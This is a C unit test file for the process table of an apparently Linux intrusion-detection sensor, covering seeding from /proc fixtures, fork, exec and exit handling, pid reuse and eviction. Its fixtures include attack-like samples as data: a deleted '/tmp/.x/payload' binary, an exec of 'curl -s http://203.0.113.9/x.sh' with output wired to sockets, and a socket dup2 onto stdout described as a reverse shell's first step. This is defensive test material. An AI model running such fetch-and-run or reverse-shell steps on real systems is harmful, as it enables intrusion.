/* SPDX-License-Identifier: Apache-2.0 */
/* The process table (detect/proctable.c): seeding, events, eviction. */
#include <errno.h>
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <cmocka.h>

#include "syscalls.h"
#include "proctable.h"
#include "procfs.h"
#include "testlib.h"

#define SEC 1000000000ull
/* Entries are looked up again after each apply: the table only promises
 * a pointer until its next change. */
#define P(tgid) shk_proctable_get(pt, (tgid))

/* One record and its decoded view, as detect/decode.c would leave them. */
struct evbuf {
	union {
		struct shk_exec exec;
		struct shk_fork fork;
		struct shk_exit exit;
		struct shk_syscall sys;
	} rec;
	struct shk_event ev;
};

static char proc_fixture[PATH_MAX];
static char bad_fixture[PATH_MAX];
static uint64_t tick_ns;

static struct evbuf *ev_new(enum shk_event_type type, int pid, int tid)
{
	struct evbuf *b = calloc(1, sizeof(*b));
	struct shk_hdr *h;

	assert_non_null(b);
	b->ev.type = type;
	switch (type) {
	case SHK_EV_EXEC:
		h = &b->rec.exec.hdr;
		b->ev.task = &b->rec.exec.task;
		b->ev.exec = &b->rec.exec;
		break;
	case SHK_EV_FORK:
		h = &b->rec.fork.hdr;
		b->ev.task = &b->rec.fork.task;
		b->ev.fork = &b->rec.fork;
		break;
	case SHK_EV_EXIT:
		h = &b->rec.exit.hdr;
		b->ev.exit = &b->rec.exit;
		break;
	default:
		h = &b->rec.sys.hdr;
		b->ev.task = &b->rec.sys.task;
		b->ev.sys = &b->rec.sys;
		break;
	}
	h->type = (uint16_t)type;
	h->abi = SHK_ABI_VERSION;
	h->pid = (uint32_t)pid;
	h->tid = (uint32_t)tid;
	b->ev.hdr = h;
	return b;
}

/* The task fields every test sets; the rest are zero. */
static struct shk_task *task_of(struct evbuf *b)
{
	return (struct shk_task *)b->ev.task;
}

static void task_set(struct evbuf *b, int ppid, uint32_t uid, uint64_t start_ns,
		     const char *comm)
{
	struct shk_task *t = task_of(b);

	t->ppid = (uint32_t)ppid;
	t->vpid = b->ev.hdr->pid;
	t->vtid = b->ev.hdr->tid;
	t->uid = t->euid = uid;
	t->gid = t->egid = uid;
	t->loginuid = 1000;
	t->start_ns = start_ns;
	t->cgroup_id = 7777;
	t->pidns = 4026531836u;
	snprintf(t->comm, sizeof(t->comm), "%s", comm);
}

static void strv_set(struct shk_strv *v, const char *p, size_t len)
{
	v->p = p;
	v->len = len;
}

static struct evbuf *ev_fork(int parent, int child, uint64_t start_ns, uint32_t flags)
{
	struct evbuf *b = ev_new(SHK_EV_FORK, child, child);

	b->rec.fork.parent_pid = (uint32_t)parent;
	b->rec.fork.parent_tid = (uint32_t)parent;
	b->rec.fork.flags = flags;
	task_set(b, parent, 1000, start_ns, "parent-comm");
	return b;
}

static struct evbuf *ev_exec(int pid, uint64_t start_ns, const char *exe,
			     const char *args, size_t args_len, uint64_t ts)
{
	struct evbuf *b = ev_new(SHK_EV_EXEC, pid, pid);
	const char *base = strrchr(exe, '/');

	task_set(b, 1, 1000, start_ns, base ? base + 1 : exe);
	strv_set(&b->ev.str[SHK_EXEC_EXE], exe, strlen(exe));
	strv_set(&b->ev.str[SHK_EXEC_FILENAME], exe, strlen(exe));
	if (args)
		strv_set(&b->ev.str[SHK_EXEC_ARGS], args, args_len);
	b->rec.exec.hdr.ts_ns = ts;
	return b;
}

static struct evbuf *ev_sys(int pid, int tid, uint32_t nr, int64_t ret,
			    uint64_t start_ns)
{
	struct evbuf *b = ev_new(SHK_EV_SYSCALL, pid, tid);

	const struct shk_sys_desc *d = shk_syscall_by_nr((int)nr);

	b->rec.sys.nr = nr;
	/* the layout kind, as the sensor sets it from the interest map */
	b->rec.sys.kind = d ? d->kind : SHK_K_NONE;
	b->rec.sys.ret = ret;
	b->rec.sys.fd[SHK_FD_ARG].fd = -1;
	b->rec.sys.fd[SHK_FD_RES].fd = -1;
	task_set(b, 1, 1000, start_ns, "sys-comm");
	return b;
}

static int apply_free(struct shk_proctable *pt, struct evbuf *b)
{
	int err = shk_proctable_apply(pt, &b->ev);

	free(b);
	return err;
}

static struct shk_proctable_stats stats_of(const struct shk_proctable *pt)
{
	struct shk_proctable_stats s;

	memset(&s, 0xff, sizeof(s));
	shk_proctable_stats(pt, &s);
	return s;
}

static int group_setup(void **state)
{
	const char *data = test_env("SHRIKE_TEST_DATA");

	snprintf(proc_fixture, sizeof(proc_fixture), "%s/proc", data);
	snprintf(bad_fixture, sizeof(bad_fixture), "%s/proc-bad", data);
	tick_ns = SEC / (uint64_t)sysconf(_SC_CLK_TCK);
	return 0;
}

static void test_new_free(void **state)
{
	struct shk_proctable *pt;

	errno = 0;
	assert_null(shk_proctable_new(0));
	assert_int_equal(errno, EINVAL);
	shk_proctable_free(NULL);

	pt = shk_proctable_new(10);
	assert_non_null(pt);
	assert_int_equal(stats_of(pt).capacity, 10);
	assert_int_equal(stats_of(pt).size, 0);
	assert_null(shk_proctable_get(pt, 1));
	shk_proctable_free(pt);
}

static void test_seed_fixture(void **state)
{
	struct shk_proctable *pt = shk_proctable_new(64);
	const struct shk_proc *p, *a;

	assert_int_equal(shk_proctable_seed(pt, proc_fixture), 7);
	assert_int_equal(stats_of(pt).size, 7);

	p = shk_proctable_get(pt, 1234);
	assert_non_null(p);
	assert_int_equal(p->source, SHK_PROC_SRC_PROCFS);
	assert_string_equal(p->comm, "we ird) (x");
	/* the table keeps the path, the flag says it is gone */
	assert_string_equal(p->exe.p, "/tmp/.x/payload");
	assert_int_equal(p->exe.len, strlen("/tmp/.x/payload"));
	assert_true(p->exe_deleted);
	assert_int_equal(p->args.len, sizeof("./payload\0-c\0/tmp/.x/conf") - 1);
	assert_memory_equal(p->args.p, "./payload\0-c\0/tmp/.x/conf", p->args.len + 1);
	assert_string_equal(p->cwd.p, "/tmp/.x");
	assert_string_equal(p->cgroup.p, "/user.slice/user-1000.slice/session-3.scope");
	assert_int_equal(p->uid, 1000);
	assert_int_equal(p->euid, 0);
	assert_int_equal(p->loginuid, 1000);
	assert_int_equal(p->tty, 34816);
	assert_int_equal(p->start_ns, 34394 * tick_ns);
	assert_true(p->start_coarse);
	assert_int_equal(p->std_type[1], SHK_FD_PIPE);
	assert_int_equal(p->exec_ts, 0);

	/* 1234 <- 1200 (bash) <- 1 (systemd) <- nothing */
	a = shk_proctable_parent(pt, p);
	assert_non_null(a);
	assert_int_equal(a->tgid, 1200);
	assert_string_equal(a->exe.p, "/usr/bin/bash");
	a = shk_proctable_ancestor(pt, p, 2);
	assert_non_null(a);
	assert_int_equal(a->tgid, 1);
	assert_string_equal(a->comm, "systemd");
	assert_null(shk_proctable_ancestor(pt, p, 3));
	assert_ptr_equal(shk_proctable_ancestor(pt, p, 0), p);
	assert_null(shk_proctable_ancestor(pt, p, -1));

	p = shk_proctable_get(pt, 4242);
	assert_non_null(p);
	assert_int_equal(p->vpid, 7);
	assert_int_equal(p->pidns, 4026532301u);
	assert_null(shk_proctable_parent(pt, p)); /* the shim was not seeded */

	p = shk_proctable_get(pt, 87);
	assert_non_null(p);
	assert_true(p->is_kthread);
	assert_null(p->exe.p);
	assert_int_equal(shk_proctable_parent(pt, p)->tgid, 2);

	assert_null(shk_proctable_get(pt, 123)); /* "0123" is not a pid */
	shk_proctable_free(pt);
}

static void test_seed_errors(void **state)
{
	struct shk_proctable *pt = shk_proctable_new(8);

	/* only pid 16 of proc-bad has a usable stat */
	assert_int_equal(shk_proctable_seed(pt, bad_fixture), 1);
	assert_non_null(shk_proctable_get(pt, 16));
	assert_null(shk_proctable_get(pt, 11));
	assert_int_equal(shk_proctable_seed(pt, "/nonexistent-proc-root"), -ENOENT);
	assert_int_equal(shk_proctable_seed(NULL, proc_fixture), -EINVAL);
	shk_proctable_free(pt);
}

static void test_fork_copies_parent(void **state)
{
	struct shk_proctable *pt = shk_proctable_new(64);
	const struct shk_proc *c, *par;
	struct evbuf *b;

	assert_int_equal(shk_proctable_seed(pt, proc_fixture), 7);
	b = ev_fork(1234, 6000, 400 * SEC + 17, 0);
	task_of(b)->cap_eff = 0x3;
	task_of(b)->tty = 34817;
	assert_int_equal(apply_free(pt, b), 0);

	c = shk_proctable_get(pt, 6000);
	assert_non_null(c);
	assert_int_equal(c->source, SHK_PROC_SRC_FORK);
	/* image data from the parent ... */
	assert_string_equal(c->exe.p, "/tmp/.x/payload");
	assert_true(c->exe_deleted);
	assert_memory_equal(c->args.p, "./payload\0-c\0/tmp/.x/conf", c->args.len + 1);
	assert_string_equal(c->cwd.p, "/tmp/.x");
	/* ... and the kernel's view of the child */
	assert_int_equal(c->tgid, 6000);
	assert_int_equal(c->ppid, 1234);
	assert_int_equal(c->vpid, 6000);
	assert_string_equal(c->comm, "parent-comm");
	assert_int_equal(c->uid, 1000);
	assert_int_equal(c->euid, 1000);
	assert_int_equal(c->cap_eff, 0x3);
	assert_int_equal(c->tty, 34817);
	assert_int_equal(c->cgroup_id, 7777);
	assert_int_equal(c->start_ns, 400 * SEC + 17);
	assert_false(c->start_coarse);

	/* the copies are the child's own */
	par = shk_proctable_get(pt, 1234);
	assert_ptr_not_equal(c->exe.p, par->exe.p);
	assert_ptr_not_equal(c->args.p, par->args.p);
	assert_int_equal(shk_proctable_parent(pt, c)->tgid, 1234);
	assert_int_equal(shk_proctable_ancestor(pt, c, 3)->tgid, 1);
	assert_int_equal(stats_of(pt).size, 8);
	assert_int_equal(stats_of(pt).misses, 0);

	/* a new thread of 6000 creates nothing */
	b = ev_fork(6000, 6001, 400 * SEC + 17, SHK_FORK_THREAD);
	b->rec.fork.hdr.pid = 6000;
	b->rec.fork.hdr.tid = 6001;
	task_of(b)->vpid = 6000;
	task_of(b)->uid = 0; /* the kernel's word wins */
	assert_int_equal(apply_free(pt, b), 0);
	assert_null(shk_proctable_get(pt, 6001));
	assert_int_equal(P(6000)->uid, 0);
	assert_int_equal(P(6000)->vpid, 6000);
	assert_string_equal(P(6000)->comm, "parent-comm");
	assert_int_equal(stats_of(pt).size, 8);

	/* fork from an unknown parent: the child is known by its task only */
	assert_int_equal(apply_free(pt, ev_fork(31337, 6100, 401 * SEC, 0)), 0);
	c = shk_proctable_get(pt, 6100);
	assert_non_null(c);
	assert_int_equal(c->source, SHK_PROC_SRC_TASK);
	assert_null(c->exe.p);
	assert_int_equal(c->ppid, 31337);
	assert_int_equal(stats_of(pt).misses, 1);
	shk_proctable_free(pt);
}

static void test_exec_updates(void **state)
{
	static const char args[] = "curl\0-s\0http://203.0.113.9/x.sh";
	static const char env[] = "PATH=/bin\0TERM=xterm";
	struct shk_proctable *pt = shk_proctable_new(16);
	const struct shk_proc *p;
	struct evbuf *b;

	assert_int_equal(apply_free(pt, ev_fork(1, 500, 10 * SEC, 0)), 0);
	assert_int_equal(stats_of(pt).misses, 1); /* parent 1 unknown */

	b = ev_exec(500, 10 * SEC, "/usr/bin/curl", args, sizeof(args) - 1, 11 * SEC);
	strv_set(&b->ev.str[SHK_EXEC_ENV], env, sizeof(env) - 1);
	strv_set(&b->ev.str[SHK_EXEC_CWD], "/root", 5);
	strv_set(&b->ev.str[SHK_EXEC_CGROUP], "/system.slice/x.service", 23);
	b->rec.exec.exe_flags = SHK_EXE_UPPER_LAYER | SHK_EXE_WRITABLE;
	b->rec.exec.exe_ino = 131;
	b->rec.exec.exe_dev = (8u << 20) | 1;
	b->rec.exec.exe_mtime_ns = 5 * SEC;
	b->rec.exec.std_type[0] = SHK_FD_CHAR;
	b->rec.exec.std_type[1] = SHK_FD_IPV4;
	b->rec.exec.std_type[2] = SHK_FD_IPV4;
	assert_int_equal(apply_free(pt, b), 0);

	p = shk_proctable_get(pt, 500);
	assert_non_null(p);
	assert_int_equal(p->source, SHK_PROC_SRC_EXEC);
	assert_string_equal(p->exe.p, "/usr/bin/curl");
	assert_int_equal(p->args.len, sizeof(args) - 1);
	assert_memory_equal(p->args.p, args, sizeof(args));
	assert_int_equal(p->env.len, sizeof(env) - 1);
	assert_memory_equal(p->env.p, env, sizeof(env));
	assert_string_equal(p->cwd.p, "/root");
	assert_string_equal(p->cgroup.p, "/system.slice/x.service");
	assert_int_equal(p->exe_flags, SHK_EXE_UPPER_LAYER | SHK_EXE_WRITABLE);
	assert_int_equal(p->exe_ino, 131);
	assert_int_equal(p->exe_dev, (8u << 20) | 1);
	assert_int_equal(p->exe_mtime_ns, 5 * SEC);
	assert_int_equal(p->std_type[1], SHK_FD_IPV4);
	assert_int_equal(p->exec_ts, 11 * SEC);
	assert_string_equal(p->comm, "curl");
	assert_int_equal(p->start_ns, 10 * SEC);

	/* a second exec without cwd/cgroup/env: those carry over or clear */
	b = ev_exec(500, 10 * SEC, "/bin/sh", "sh", 2, 12 * SEC);
	assert_int_equal(apply_free(pt, b), 0);
	p = shk_proctable_get(pt, 500);
	assert_string_equal(p->exe.p, "/bin/sh");
	assert_string_equal(p->args.p, "sh");
	assert_null(p->env.p); /* the new image's env is unknown */
	assert_string_equal(p->cwd.p, "/root");
	assert_string_equal(p->cgroup.p, "/system.slice/x.service");
	assert_int_equal(p->exec_ts, 12 * SEC);
	assert_int_equal(p->exe_flags, 0);

	/* exec of a process never seen: created, counted as a miss */
	assert_int_equal(apply_free(pt, ev_exec(700, 20 * SEC, "/usr/bin/id", "id", 2,
						21 * SEC)),
			 0);
	p = shk_proctable_get(pt, 700);
	assert_non_null(p);
	assert_string_equal(p->exe.p, "/usr/bin/id");
	assert_int_equal(p->ppid, 1);
	assert_int_equal(stats_of(pt).misses, 2);
	shk_proctable_free(pt);
}

static void test_exit_removes(void **state)
{
	struct shk_proctable *pt = shk_proctable_new(16);

	assert_int_equal(apply_free(pt, ev_exec(800, SEC, "/bin/true", "true", 4, SEC)), 0);
	assert_int_equal(stats_of(pt).size, 1);
	assert_int_equal(apply_free(pt, ev_new(SHK_EV_EXIT, 800, 800)), 0);
	assert_null(shk_proctable_get(pt, 800));
	assert_int_equal(stats_of(pt).size, 0);
	assert_int_equal(stats_of(pt).evictions, 0); /* an exit is not an eviction */
	/* exit of an unknown process: a miss, nothing else */
	assert_int_equal(apply_free(pt, ev_new(SHK_EV_EXIT, 801, 801)), 0);
	assert_int_equal(stats_of(pt).misses, 2);
	shk_proctable_free(pt);
}

static void test_dup_std_fds(void **state)
{
	struct shk_proctable *pt = shk_proctable_new(16);
	struct evbuf *b;

	assert_int_equal(apply_free(pt, ev_exec(900, SEC, "/bin/bash", "bash", 4, SEC)), 0);

	/* dup2(sock, 1): a reverse shell's first step */
	b = ev_sys(900, 900, SYS_dup2, 1, SEC);
	b->rec.sys.fd[SHK_FD_ARG] = (struct shk_fd){ .fd = 3, .type = SHK_FD_IPV4 };
	b->rec.sys.fd[SHK_FD_RES] = (struct shk_fd){ .fd = 1, .type = SHK_FD_IPV4 };
	assert_int_equal(apply_free(pt, b), 0);
	assert_int_equal(P(900)->std_type[1], SHK_FD_IPV4);
	assert_int_equal(P(900)->std_type[0], SHK_FD_NONE);

	/* dup3 where only the argument's type was resolved */
	b = ev_sys(900, 900, SYS_dup3, 0, SEC);
	b->rec.sys.fd[SHK_FD_ARG] = (struct shk_fd){ .fd = 3, .type = SHK_FD_UNIX };
	assert_int_equal(apply_free(pt, b), 0);
	assert_int_equal(P(900)->std_type[0], SHK_FD_UNIX);

	/* failed, or onto fd 5: no change */
	b = ev_sys(900, 900, SYS_dup2, -EBADF, SEC);
	b->rec.sys.fd[SHK_FD_RES] = (struct shk_fd){ .fd = 2, .type = SHK_FD_PIPE };
	assert_int_equal(apply_free(pt, b), 0);
	b = ev_sys(900, 900, SYS_dup2, 5, SEC);
	b->rec.sys.fd[SHK_FD_RES] = (struct shk_fd){ .fd = 5, .type = SHK_FD_PIPE };
	assert_int_equal(apply_free(pt, b), 0);
	assert_int_equal(P(900)->std_type[2], SHK_FD_NONE);
	/* another syscall with a number that is not a dup */
	b = ev_sys(900, 900, SYS_read, 2, SEC);
	b->rec.sys.fd[SHK_FD_RES] = (struct shk_fd){ .fd = 2, .type = SHK_FD_PIPE };
	assert_int_equal(apply_free(pt, b), 0);
	assert_int_equal(P(900)->std_type[2], SHK_FD_NONE);
	shk_proctable_free(pt);
}

static void test_chdir(void **state)
{
	struct shk_proctable *pt = shk_proctable_new(16);
	struct evbuf *b;

	b = ev_exec(910, SEC, "/bin/bash", "bash", 4, SEC);
	strv_set(&b->ev.str[SHK_EXEC_CWD], "/home/alice", 11);
	assert_int_equal(apply_free(pt, b), 0);

	/* chdir("../../tmp") from /home/alice: the decoder's joined view */
	b = ev_sys(910, 910, SYS_chdir, 0, SEC);
	strv_set(&b->ev.str[SHK_SYS_RAW], "../../tmp", 9);
	strv_set(&b->ev.path, "/tmp", 4);
	assert_int_equal(apply_free(pt, b), 0);
	assert_string_equal(P(910)->cwd.p, "/tmp");

	b = ev_sys(910, 910, SYS_chdir, -ENOENT, SEC);
	strv_set(&b->ev.path, "/nope", 5);
	assert_int_equal(apply_free(pt, b), 0);
	assert_string_equal(P(910)->cwd.p, "/tmp");

	b = ev_sys(910, 910, SYS_fchdir, 0, SEC);
	strv_set(&b->ev.str[SHK_SYS_PATH], "/var/lib/docker", 15);
	assert_int_equal(apply_free(pt, b), 0);
	assert_string_equal(P(910)->cwd.p, "/var/lib/docker");
	assert_int_equal(P(910)->cwd.len, 15);
	shk_proctable_free(pt);
}

static void test_task_refresh_and_setuid(void **state)
{
	struct shk_proctable *pt = shk_proctable_new(16);
	const struct shk_proc *p;
	struct evbuf *b;

	assert_int_equal(apply_free(pt, ev_exec(920, SEC, "/usr/bin/sudo", "sudo", 4, SEC)), 0);
	assert_int_equal(P(920)->uid, 1000);

	/* setuid(0) reported at exit: the task shows the new ids */
	b = ev_sys(920, 920, SYS_setuid, 0, SEC);
	task_set(b, 1, 0, SEC, "sudo");
	task_of(b)->cap_eff = 0x1ffffffffffull;
	assert_int_equal(apply_free(pt, b), 0);
	assert_int_equal(P(920)->uid, 0);
	assert_int_equal(P(920)->euid, 0);
	assert_int_equal(P(920)->cap_eff, 0x1ffffffffffull);

	/* setuid(1000) with the entry context: the task still shows 0, so
	 * ids are not taken from it, while the rest still is */
	b = ev_sys(920, 920, SYS_setuid, 0, SEC);
	b->rec.sys.hdr.flags = SHK_F_ENTER_CTX;
	task_set(b, 1, 0, SEC, "sudo");
	task_of(b)->uid = 4242;
	task_of(b)->cgroup_id = 9999;
	assert_int_equal(apply_free(pt, b), 0);
	assert_int_equal(P(920)->uid, 0);
	assert_int_equal(P(920)->cgroup_id, 9999);

	/* any event refreshes; only the leader's renames the process */
	b = ev_sys(920, 921, SYS_read, 0, SEC);
	task_set(b, 77, 1000, SEC, "worker-thread");
	task_of(b)->cgroup_id = 12345;
	assert_int_equal(apply_free(pt, b), 0);
	assert_string_equal(P(920)->comm, "sudo");
	assert_int_equal(P(920)->cgroup_id, 12345);
	assert_int_equal(P(920)->ppid, 77); /* reparented */
	assert_int_equal(P(920)->uid, 1000);
	b = ev_sys(920, 920, SYS_prctl, 0, SEC);
	task_set(b, 77, 1000, SEC, "renamed");
	assert_int_equal(apply_free(pt, b), 0);
	assert_string_equal(P(920)->comm, "renamed");

	/* a syscall of an unknown process creates a task-only entry */
	assert_int_equal(apply_free(pt, ev_sys(930, 930, SYS_read, 0, 3 * SEC)), 0);
	p = shk_proctable_get(pt, 930);
	assert_non_null(p);
	assert_int_equal(p->source, SHK_PROC_SRC_TASK);
	assert_string_equal(p->comm, "sys-comm");
	assert_int_equal(p->start_ns, 3 * SEC);
	shk_proctable_free(pt);
}

static void test_pid_reuse(void **state)
{
	struct shk_proctable *pt = shk_proctable_new(64);
	uint64_t seeded = 34394 * tick_ns;
	const struct shk_proc *p;

	assert_int_equal(shk_proctable_seed(pt, proc_fixture), 7);

	/* the exact start is within the tick procfs showed: same process */
	assert_int_equal(apply_free(pt, ev_sys(1234, 1234, SYS_read, 0,
					       seeded + tick_ns / 2)),
			 0);
	p = shk_proctable_get(pt, 1234);
	assert_string_equal(p->exe.p, "/tmp/.x/payload");
	assert_int_equal(p->start_ns, seeded + tick_ns / 2);
	assert_false(p->start_coarse);
	assert_int_equal(stats_of(pt).stale, 0);

	/* now exact: one ns off is another process with the same pid */
	assert_int_equal(apply_free(pt, ev_sys(1234, 1234, SYS_read, 0,
					       seeded + tick_ns / 2 + 1)),
			 0);
	p = shk_proctable_get(pt, 1234);
	assert_non_null(p);
	assert_null(p->exe.p);
	assert_int_equal(p->source, SHK_PROC_SRC_TASK);
	assert_int_equal(stats_of(pt).stale, 1);

	/* exec onto a stale entry does not inherit its cwd */
	assert_int_equal(apply_free(pt, ev_exec(1200, 900 * SEC, "/usr/bin/zsh",
						"zsh", 3, 900 * SEC)),
			 0);
	p = shk_proctable_get(pt, 1200);
	assert_null(p->cwd.p);
	assert_string_equal(p->exe.p, "/usr/bin/zsh");
	assert_int_equal(stats_of(pt).stale, 2);

	/* fork reusing a pid whose old entry is still there */
	assert_int_equal(apply_free(pt, ev_fork(4242, 5000, 950 * SEC, 0)), 0);
	p = shk_proctable_get(pt, 5000);
	assert_string_equal(p->exe.p, "/usr/sbin/nginx");
	assert_int_equal(stats_of(pt).stale, 3);

	/* a parent that started after its child is a reused pid */
	assert_int_equal(apply_free(pt, ev_sys(1234, 1234, SYS_read, 0,
					       seeded + tick_ns / 2 + 1)),
			 0);
	assert_int_equal(shk_proctable_parent(pt, P(1234))->tgid, 1);
	assert_int_equal(apply_free(pt, ev_exec(1, 999 * SEC, "/sbin/init", "init", 4,
						999 * SEC)),
			 0);
	assert_non_null(P(1));
	assert_null(shk_proctable_parent(pt, P(1234)));
	shk_proctable_free(pt);
}

static void test_eviction_lru(void **state)
{
	struct shk_proctable *pt = shk_proctable_new(4);

	for (int pid = 100; pid < 104; pid++)
		assert_int_equal(apply_free(pt, ev_exec(pid, SEC, "/bin/x", "x", 1, SEC)), 0);
	assert_int_equal(stats_of(pt).size, 4);
	/* 100 is updated again: 101 is now the least recently updated */
	assert_int_equal(apply_free(pt, ev_sys(100, 100, SYS_read, 0, SEC)), 0);
	/* a lookup is not an update */
	assert_non_null(shk_proctable_get(pt, 101));
	assert_int_equal(apply_free(pt, ev_exec(104, SEC, "/bin/y", "y", 1, SEC)), 0);
	assert_int_equal(stats_of(pt).size, 4);
	assert_int_equal(stats_of(pt).evictions, 1);
	assert_null(shk_proctable_get(pt, 101));
	assert_non_null(shk_proctable_get(pt, 100));
	assert_non_null(shk_proctable_get(pt, 104));

	/* many more: bounded, every drop counted */
	for (int pid = 2000; pid < 3000; pid++)
		assert_int_equal(apply_free(pt, ev_exec(pid, SEC, "/bin/z", "z", 1, SEC)), 0);
	assert_int_equal(stats_of(pt).size, 4);
	assert_int_equal(stats_of(pt).evictions, 1001);
	for (int pid = 2996; pid < 3000; pid++)
		assert_non_null(shk_proctable_get(pt, pid));
	assert_null(shk_proctable_get(pt, 2995));

	/* a fork whose parent is the oldest entry still copies it */
	assert_int_equal(apply_free(pt, ev_fork(2996, 3001, 2 * SEC, 0)), 0);
	assert_string_equal(shk_proctable_get(pt, 3001)->exe.p, "/bin/z");
	shk_proctable_free(pt);

	/* capacity 1: the parent itself makes room for its child */
	pt = shk_proctable_new(1);
	assert_int_equal(apply_free(pt, ev_exec(10, SEC, "/bin/p", "p", 1, SEC)), 0);
	assert_int_equal(apply_free(pt, ev_fork(10, 11, 2 * SEC, 0)), 0);
	assert_string_equal(shk_proctable_get(pt, 11)->exe.p, "/bin/p");
	assert_null(shk_proctable_get(pt, 10));
	assert_int_equal(stats_of(pt).evictions, 1);
	shk_proctable_free(pt);
}

/* Inserts and removals in random order against a plain array: the
 * index must never lose or invent an entry. */
static void test_index_consistency(void **state)
{
	enum { KEYS = 300 };
	struct shk_proctable *pt = shk_proctable_new(KEYS);
	bool present[KEYS] = { false };
	unsigned int seed = 12345;
	size_t n = 0;

	for (int i = 0; i < 20000; i++) {
		int k;

		seed = seed * 1103515245u + 12345u;
		k = (int)((seed >> 8) % KEYS);
		/* keys that collide in the index: multiples of a power of 2 */
		if (seed & 1) {
			assert_int_equal(apply_free(pt, ev_sys(k * 1024 + 1, k * 1024 + 1,
							       SYS_read, 0, 0)),
					 0);
			n += !present[k];
			present[k] = true;
		} else {
			assert_int_equal(apply_free(pt, ev_new(SHK_EV_EXIT, k * 1024 + 1,
							       k * 1024 + 1)),
					 0);
			n -= present[k];
			present[k] = false;
		}
		if (i % 1000 == 0 || i == 19999) {
			for (int j = 0; j < KEYS; j++) {
				const struct shk_proc *p = shk_proctable_get(pt, j * 1024 + 1);

				assert_int_equal(p != NULL, present[j]);
				if (p)
					assert_int_equal(p->tgid, j * 1024 + 1);
			}
			assert_int_equal(stats_of(pt).size, n);
		}
	}
	assert_int_equal(stats_of(pt).evictions, 0);
	shk_proctable_free(pt);
}

static void test_ancestor_cycle(void **state)
{
	struct shk_proctable *pt = shk_proctable_new(16);
	const struct shk_proc *a;
	struct evbuf *b;

	/* 50 -> 51 -> 50, with no start times to tell them apart */
	b = ev_sys(50, 50, SYS_read, 0, 0);
	task_of(b)->ppid = 51;
	assert_int_equal(apply_free(pt, b), 0);
	b = ev_sys(51, 51, SYS_read, 0, 0);
	task_of(b)->ppid = 50;
	assert_int_equal(apply_free(pt, b), 0);
	a = shk_proctable_get(pt, 50);
	assert_int_equal(shk_proctable_ancestor(pt, a, 1)->tgid, 51);
	assert_null(shk_proctable_ancestor(pt, a, 2));
	assert_null(shk_proctable_ancestor(pt, a, INT_MAX));

	/* its own parent */
	b = ev_sys(52, 52, SYS_read, 0, 0);
	task_of(b)->ppid = 52;
	assert_int_equal(apply_free(pt, b), 0);
	assert_null(shk_proctable_parent(pt, shk_proctable_get(pt, 52)));
	assert_null(shk_proctable_parent(pt, NULL));
	shk_proctable_free(pt);
}

static void test_apply_errors(void **state)
{
	struct shk_proctable *pt = shk_proctable_new(4);
	struct evbuf *b;

	assert_int_equal(shk_proctable_apply(pt, NULL), -EINVAL);
	b = ev_fork(1, 2, SEC, 0);
	b->ev.task = NULL;
	assert_int_equal(apply_free(pt, b), -EINVAL);
	b = ev_exec(3, SEC, "/x", "x", 1, SEC);
	b->ev.exec = NULL;
	assert_int_equal(apply_free(pt, b), -EINVAL);
	b = ev_sys(0, 0, SYS_read, 0, SEC);
	assert_int_equal(apply_free(pt, b), -EINVAL);
	b = ev_sys(4, 4, SYS_read, 0, SEC);
	b->ev.hdr = NULL;
	assert_int_equal(apply_free(pt, b), -EINVAL);
	/* a type this layer does not care about */
	b = ev_sys(4, 4, SYS_read, 0, SEC);
	b->ev.type = (enum shk_event_type)5;
	assert_int_equal(apply_free(pt, b), 0);
	assert_int_equal(stats_of(pt).size, 0);
	shk_proctable_free(pt);
}

/* The live /proc: seeding finds this very process. */
static void test_seed_real_proc(void **state)
{
	struct shk_proctable *pt = shk_proctable_new(65536);
	char comm[17] = "", exe[PATH_MAX];
	const struct shk_proc *me;
	ssize_t n;
	int count;

	assert_int_equal(prctl(PR_GET_NAME, comm), 0);
	n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	assert_true(n > 0);
	exe[n] = '\0';

	count = shk_proctable_seed(pt, NULL);
	assert_true(count >= 2);
	assert_int_equal(stats_of(pt).size, (size_t)count);
	me = shk_proctable_get(pt, getpid());
	assert_non_null(me);
	assert_string_equal(me->comm, comm);
	assert_string_equal(me->exe.p, exe);
	assert_int_equal(me->ppid, getppid());
	assert_int_equal(me->uid, getuid());
	assert_int_equal(me->source, SHK_PROC_SRC_PROCFS);
	/* the harness that started us was seeded too */
	assert_non_null(shk_proctable_parent(pt, me));
	assert_int_equal(shk_proctable_parent(pt, me)->tgid, getppid());
	shk_proctable_free(pt);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_new_free),
		cmocka_unit_test(test_seed_fixture),
		cmocka_unit_test(test_seed_errors),
		cmocka_unit_test(test_fork_copies_parent),
		cmocka_unit_test(test_exec_updates),
		cmocka_unit_test(test_exit_removes),
		cmocka_unit_test(test_dup_std_fds),
		cmocka_unit_test(test_chdir),
		cmocka_unit_test(test_task_refresh_and_setuid),
		cmocka_unit_test(test_pid_reuse),
		cmocka_unit_test(test_eviction_lru),
		cmocka_unit_test(test_index_consistency),
		cmocka_unit_test(test_ancestor_cycle),
		cmocka_unit_test(test_apply_errors),
		cmocka_unit_test(test_seed_real_proc),
	};

	return cmocka_run_group_tests(tests, group_setup, NULL);
}
